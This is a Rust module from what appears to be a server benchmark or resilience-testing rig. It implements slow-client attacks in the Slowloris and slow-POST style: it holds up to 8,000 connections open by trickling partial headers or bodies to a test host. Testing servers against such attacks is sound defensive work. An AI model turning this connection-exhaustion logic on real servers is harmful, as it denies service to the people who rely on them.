//! Slow clients: connections whose head, or whose body, comes a little at a time and never to its end.
//!
//! They cost a server nothing but that it holds them. One that is closed is made again at the attack's rate.

use std::collections::VecDeque;
use std::io;
use std::rc::Rc;
use std::time::{Duration, Instant};

use super::crowd::{Crowd, Manners};
use super::rig::Rig;

/// How long each connection is silent after each morsel: less than any server's patience with one.
const SILENCE: Duration = Duration::from_secs(1);
/// How many the attacker holds at most.
const HELD: usize = 8_000;
/// Connections that one turn begins, and morsels that it sends.
const BATCH: usize = 4;
const MORSELS: usize = 16;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    Head,
    Body,
}

impl Part {
    /// What is sent at once: all but the part that is slow.
    fn start(self) -> &'static [u8] {
        match self {
            Part::Head => b"GET /api/users HTTP/1.1\r\nHost: bench.test\r\n",
            Part::Body => b"POST /api/users HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 100000\r\n\r\n",
        }
    }

    /// What is sent after each silence; a body may hold it as well as a head.
    fn morsel(self) -> &'static [u8] {
        match self {
            Part::Head => b"X-A: b\r\n",
            Part::Body => b"x",
        }
    }
}

pub struct SlowClients {
    rig: Rc<Rig>,
    part: Part,
    crowd: Crowd<Slow>,
    number: u64,
    /// Who sends the next morsel when.
    morsels: VecDeque<(Instant, usize, u64)>,
}

struct Slow {
    /// A token comes again, a number does not.
    number: u64,
    /// The server has taken the connection and the start of the request.
    is_held: bool,
}

impl SlowClients {
    pub fn new(rig: Rc<Rig>, part: Part) -> io::Result<SlowClients> {
        let crowd = Crowd::new(rig.attacker.target, Manners::Rude)?;
        Ok(SlowClients { rig, part, crowd, number: 0, morsels: VecDeque::new() })
    }

    /// How many connections the attack holds open.
    pub fn held(&self) -> usize {
        self.crowd.states().filter(|slow| slow.is_held).count()
    }

    /// Begins up to `due` connections and feeds the others; says how many it began.
    pub fn advance(&mut self, due: usize, now: Instant) -> io::Result<usize> {
        for ready in self.crowd.ready()? {
            let token = ready.token;
            // Whatever the server has to say, an end or a refusal, it says for good.
            if ready.readable || !self.crowd.send(token, self.part.start()) {
                self.crowd.close(token);
                continue;
            }
            self.crowd.only_read(token)?;
            let slow = self.crowd.state(token).expect("it was just written to");
            slow.is_held = true;
            self.morsels.push_back((now + SILENCE, token, slow.number));
        }
        for _ in 0..MORSELS {
            let Some((_, token, number)) = self.morsels.pop_front_if(|(when, ..)| *when <= now) else {
                break;
            };
            if self.crowd.state(token).is_none_or(|slow| slow.number != number) {
                continue;
            }
            match self.crowd.send(token, self.part.morsel()) {
                true => self.morsels.push_back((now + SILENCE, token, number)),
                false => self.crowd.close(token),
            }
        }
        let count = due.min(BATCH).min(HELD - self.crowd.len());
        if count == 0 {
            return Ok(0);
        }
        self.rig.as_attacker(|| {
            for _ in 0..count {
                self.number += 1;
                self.crowd.connect(Slow { number: self.number, is_held: false })?;
            }
            Ok(count)
        })?
    }
}
